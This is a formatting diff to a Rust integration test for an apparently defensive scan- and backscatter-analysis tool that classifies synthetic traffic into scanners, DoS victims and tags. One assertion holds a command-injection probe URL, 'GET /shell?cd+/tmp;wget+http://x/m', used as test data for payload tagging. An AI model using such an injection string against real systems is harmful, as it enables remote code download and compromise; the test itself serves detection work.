@@ -32,7 +32,12 @@ fn day() -> NaiveDate {
 }
 
 fn t(secs: i64) -> i64 {
-    day().and_hms_opt(0, 0, 0).unwrap().and_utc().timestamp_micros() + secs * 1_000_000
+    day()
+        .and_hms_opt(0, 0, 0)
+        .unwrap()
+        .and_utc()
+        .timestamp_micros()
+        + secs * 1_000_000
 }
 
 fn v4(s: &str) -> Vec<u8> {
@@ -109,12 +114,33 @@ fn first_segment(root: &Path) {
     }
     for h in 128..144 {
         for p in [80, 443] {
-            s1.push(flow(20, "162.142.125.77", &format!("198.18.1.{h}"), Kind::TcpSyn, p, 1));
-            s2.push(flow(20, "162.142.125.77", &format!("198.18.2.{h}"), Kind::TcpSyn, p, 1));
+            s1.push(flow(
+                20,
+                "162.142.125.77",
+                &format!("198.18.1.{h}"),
+                Kind::TcpSyn,
+                p,
+                1,
+            ));
+            s2.push(flow(
+                20,
+                "162.142.125.77",
+                &format!("198.18.2.{h}"),
+                Kind::TcpSyn,
+                p,
+                1,
+            ));
         }
     }
     for i in 0..50 {
-        s2.push(flow(30, &format!("100.64.{}.{}", i / 200, 1 + i % 200), "198.18.2.130", Kind::TcpSyn, 80, 1));
+        s2.push(flow(
+            30,
+            &format!("100.64.{}.{}", i / 200, 1 + i % 200),
+            "198.18.2.130",
+            Kind::TcpSyn,
+            80,
+            1,
+        ));
     }
     let s3 = vec![
         flow(40, "192.0.2.50", "198.18.3.130", Kind::TcpSynack, 33000, 20),
@@ -199,7 +225,11 @@ fn rows(root: &Path) -> BTreeMap<String, Row> {
                     sensor_count: sc.value(i),
                     breadth: br.value(i),
                     dst_hosts: dh.value(i),
-                    ports: ports.value(i).as_primitive::<UInt16Type>().values().to_vec(),
+                    ports: ports
+                        .value(i)
+                        .as_primitive::<UInt16Type>()
+                        .values()
+                        .to_vec(),
                     scan_type: st.value(i).to_string(),
                     scanner: is.value(i),
                     tools: tools
@@ -242,7 +272,11 @@ fn rollup_classifies_attributes_and_reruns_late_data() {
     let root = dir.path();
     first_segment(root);
     let tor = root.join("exit-addresses");
-    std::fs::write(&tor, "ExitNode AB\nExitAddress 203.0.113.11 2026-11-20 10:00:00\n").unwrap();
+    std::fs::write(
+        &tor,
+        "ExitNode AB\nExitAddress 203.0.113.11 2026-11-20 10:00:00\n",
+    )
+    .unwrap();
     let mut cfg = RollupConfig::default();
     cfg.enrich.tor_exit_list = Some(tor);
     cfg.tag.push(TagRule {
@@ -294,24 +328,54 @@ fn rollup_classifies_attributes_and_reruns_late_data() {
         }
     );
     let victim = &r["192.0.2.50"];
-    assert_eq!((victim.scanner, victim.backscatter, victim.packets), (false, 40, 40));
+    assert_eq!(
+        (victim.scanner, victim.backscatter, victim.packets),
+        (false, 40, 40)
+    );
     assert_eq!(victim.scan_type, "none");
     assert_eq!(r.values().filter(|x| x.scanner).count(), 2);
     let spoofed = r.keys().filter(|k| k.starts_with("100.64.")).count();
     assert_eq!(spoofed, 50);
-    assert!(r.iter().filter(|(k, _)| k.starts_with("100.64.")).all(|(_, x)| !x.scanner && x.scan_type == "none"));
+    assert!(
+        r.iter()
+            .filter(|(k, _)| k.starts_with("100.64."))
+            .all(|(_, x)| !x.scanner && x.scan_type == "none")
+    );
 
     // Payload fields, Tor, user rules: through the report of one source.
-    let web = report::build(root, day(), &Query::Ip("198.51.100.7".into()), &ReportOptions::default()).unwrap();
-    assert_eq!(web["http_url"], serde_json::json!(["GET /shell?cd+/tmp;wget+http://x/m"]));
+    let web = report::build(
+        root,
+        day(),
+        &Query::Ip("198.51.100.7".into()),
+        &ReportOptions::default(),
+    )
+    .unwrap();
+    assert_eq!(
+        web["http_url"],
+        serde_json::json!(["GET /shell?cd+/tmp;wget+http://x/m"])
+    );
     assert_eq!(web["http_user_agent"], serde_json::json!(["Hello, World"]));
     assert_eq!(web["mysql_login_attempts"], serde_json::json!(0));
     assert_eq!(web["icmp_ping"], serde_json::json!(3));
     assert_eq!(web["tor_exit"], serde_json::json!(false));
     assert_eq!(web["low_ports"], serde_json::json!(1));
-    let tags: Vec<&str> = web["tags"].as_array().unwrap().iter().map(|t| t.as_str().unwrap()).collect();
-    assert!(tags.contains(&"web-probe") && tags.contains(&"payload:wget"), "{tags:?}");
-    let nmap = report::build(root, day(), &Query::Ip("203.0.113.11".into()), &ReportOptions::default()).unwrap();
+    let tags: Vec<&str> = web["tags"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| t.as_str().unwrap())
+        .collect();
+    assert!(
+        tags.contains(&"web-probe") && tags.contains(&"payload:wget"),
+        "{tags:?}"
+    );
+    let nmap = report::build(
+        root,
+        day(),
+        &Query::Ip("203.0.113.11".into()),
+        &ReportOptions::default(),
+    )
+    .unwrap();
     assert_eq!(nmap["tor_exit"], serde_json::json!(true));
     assert_eq!(nmap["mysql_login_attempts"], serde_json::Value::Null);
     assert_eq!(nmap["os_hint"], serde_json::json!("linux/unix"));
@@ -326,8 +390,17 @@ fn rollup_classifies_attributes_and_reruns_late_data() {
     assert_eq!(d["top_ports_by_packets"][0]["packets"], 32 + 50 + 1);
     assert_eq!(d["top_ports_by_sources"][0]["sources"], 52);
     assert_eq!(d["organisations"][0]["org"], "censys");
-    assert_eq!(d["dos_victims"].as_array().unwrap().len(), 0, "40 packets in 20 s is no attack by default");
-    let sum: u64 = d["series_30m"].as_array().unwrap().iter().map(|b| b["packets"].as_u64().unwrap()).sum();
+    assert_eq!(
+        d["dos_victims"].as_array().unwrap().len(),
+        0,
+        "40 packets in 20 s is no attack by default"
+    );
+    let sum: u64 = d["series_30m"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|b| b["packets"].as_u64().unwrap())
+        .sum();
     assert_eq!(sum, 11 + 64 + 50 + 1 + 3);
     let port = report::build(root, day(), &Query::Port(443), &ReportOptions::default()).unwrap();
     assert_eq!(port["tcp"]["sources"], 1);
@@ -346,14 +419,20 @@ fn rollup_classifies_attributes_and_reruns_late_data() {
     assert_eq!(s.sources, 54);
     let r = rows(root);
     let a = &r["203.0.113.11"];
-    assert_eq!((a.packets, a.sensor_count, a.breadth, a.dst_hosts), (21, 2, 7, 2));
+    assert_eq!(
+        (a.packets, a.sensor_count, a.breadth, a.dst_hosts),
+        (21, 2, 7, 2)
+    );
     assert_eq!(a.ports, (20..=35).collect::<Vec<u16>>());
     assert_eq!(a.scan_type, "vertical");
     // Running again changes nothing and every table keeps one file for the day.
     rollup::run(&opts(root, cfg)).unwrap();
     assert_eq!(rows(root), r);
     for t in ["ip_daily", "port_daily", "dos_daily", "series_daily"] {
-        assert_eq!(files(rollup_path(root, t, day()).parent().unwrap().to_path_buf()), vec!["rollup.parquet"]);
+        assert_eq!(
+            files(rollup_path(root, t, day()).parent().unwrap().to_path_buf()),
+            vec!["rollup.parquet"]
+        );
     }
     if std::env::var_os("SCANSCOPE_KEEP_TEST_LAKE").is_some() {
         eprintln!("lake kept in {}", dir.keep().display());
@@ -366,7 +445,16 @@ fn dos_thresholds_and_replaced_org_lists() {
     let root = dir.path();
     // 6 minutes of 10 SYN-ACKs every 10 s (60/min) from one victim.
     let flows: Vec<Flow> = (0..36)
-        .map(|i| flow(600 + i * 10, "192.0.2.99", "198.18.1.130", Kind::TcpSynack, 443, 10))
+        .map(|i| {
+            flow(
+                600 + i * 10,
+                "192.0.2.99",
+                "198.18.1.130",
+                Kind::TcpSynack,
+                443,
+                10,
+            )
+        })
         .collect();
     let mut rows = Rows::default();
     rows.push(&batch("s1", flows, vec![]));
@@ -380,10 +468,25 @@ fn dos_thresholds_and_replaced_org_lists() {
     assert_eq!((s.sources, s.scanners, s.dos_victims), (1, 0, 1));
     let dos = read(&rollup_path(root, "dos_daily", day()));
     let col = |n: &str| dos.column_by_name(n).unwrap().clone();
-    assert_eq!(col("packets").as_primitive::<arrow::datatypes::UInt64Type>().value(0), 360);
-    assert_eq!(col("peak_ppm").as_primitive::<arrow::datatypes::UInt64Type>().value(0), 60);
+    assert_eq!(
+        col("packets")
+            .as_primitive::<arrow::datatypes::UInt64Type>()
+            .value(0),
+        360
+    );
+    assert_eq!(
+        col("peak_ppm")
+            .as_primitive::<arrow::datatypes::UInt64Type>()
+            .value(0),
+        60
+    );
     assert!(col("is_attack").as_boolean().value(0));
-    assert_eq!(col("attacks").as_primitive::<arrow::datatypes::UInt32Type>().value(0), 1);
+    assert_eq!(
+        col("attacks")
+            .as_primitive::<arrow::datatypes::UInt32Type>()
+            .value(0),
+        1
+    );
     let r = rows_org(root);
     assert_eq!(r, Some("acme".to_string()));
     // Missing enrichment files: warnings, not failures.
@@ -391,12 +494,25 @@ fn dos_thresholds_and_replaced_org_lists() {
     cfg.enrich.mmdb = vec![root.join("missing.mmdb")];
     cfg.enrich.tor_exit_list = Some(root.join("missing-tor"));
     let s = rollup::run(&opts(root, cfg)).unwrap();
-    assert!(s.warnings.iter().any(|w| w.contains("MMDB")), "{:?}", s.warnings);
-    assert!(s.warnings.iter().any(|w| w.contains("Tor")), "{:?}", s.warnings);
+    assert!(
+        s.warnings.iter().any(|w| w.contains("MMDB")),
+        "{:?}",
+        s.warnings
+    );
+    assert!(
+        s.warnings.iter().any(|w| w.contains("Tor")),
+        "{:?}",
+        s.warnings
+    );
     // No data: a clear error.
     let mut o = opts(root, RollupConfig::default());
     o.date = NaiveDate::from_ymd_opt(2026, 1, 1).unwrap();
-    assert!(rollup::run(&o).unwrap_err().to_string().contains("no data for 2026-01-01"));
+    assert!(
+        rollup::run(&o)
+            .unwrap_err()
+            .to_string()
+            .contains("no data for 2026-01-01")
+    );
 }
 
 fn rows_org(root: &Path) -> Option<String> {
